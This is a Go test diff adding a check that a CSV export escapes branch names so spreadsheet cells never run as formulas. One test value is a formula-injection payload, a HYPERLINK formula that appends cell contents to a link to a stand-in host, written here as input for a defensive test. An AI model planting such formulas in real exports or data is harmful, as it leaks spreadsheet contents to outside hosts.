@@ -3,6 +3,7 @@ package impact_test
 import (
 	"encoding/csv"
 	"net/http"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -59,5 +60,27 @@ func TestExportIsPseudonymousAndUnlinkable(t *testing.T) {
 		if !strings.Contains(body, want) {
 			t.Errorf("the export lacks %q:\n%s", want, body)
 		}
+	}
+}
+
+// A branch named like a formula is text in the evaluator's spreadsheet, and the counts are
+// still numbers.
+func TestExportCellsNeverRunAsFormulas(t *testing.T) {
+	app := App(t)
+	formula := `=HYPERLINK("http://x.example/?"&A1,"Click")`
+	Change(t, app, "", "branches", BranchBrussels, map[string]any{"name": formula})
+	Change(t, app, "", "branches", BranchAntwerp, map[string]any{"name": "-2+3"})
+	rows := exportOf(t, Handler(t, app))
+	branches := map[string]int{}
+	for _, row := range rows[1:] {
+		branches[row[1]]++
+		for _, n := range row[5:8] { // weeks, meetings, minutes
+			if _, err := strconv.Atoi(n); err != nil {
+				t.Errorf("a count is not a number: %q", n)
+			}
+		}
+	}
+	if branches["'"+formula] == 0 || branches["'-2+3"] == 0 || len(branches) != 2 {
+		t.Errorf("branches as written: %v", branches)
 	}
 }
